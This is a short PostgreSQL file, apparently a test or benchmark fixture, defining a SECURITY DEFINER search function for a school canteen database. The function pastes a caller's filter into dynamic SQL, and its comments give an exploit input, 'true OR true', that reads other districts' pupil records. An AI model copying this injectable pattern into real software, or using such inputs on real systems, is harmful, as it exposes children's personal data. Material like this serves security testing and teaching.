-- The filter of the caller is pasted into the statement, which runs as the owner: OR true reads everything.
-- about: search_pupils, pupils
-- as: hf_canteen_app
-- exploit: SET canteen.district = 'north';
-- exploit: SELECT full_name FROM canteen.search_pupils('true OR true');
-- shows: Road-secret Pupil
-- Filters of the grid: class = '3a', balance_cents < 0 and the like.
CREATE FUNCTION canteen.search_pupils(p_filter text) RETURNS SETOF canteen.pupils
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = canteen, pg_temp AS $$
BEGIN
  RETURN QUERY EXECUTE 'SELECT * FROM canteen.pupils WHERE district_id = $1 AND ' || p_filter
    USING canteen.cur_district();
END $$;
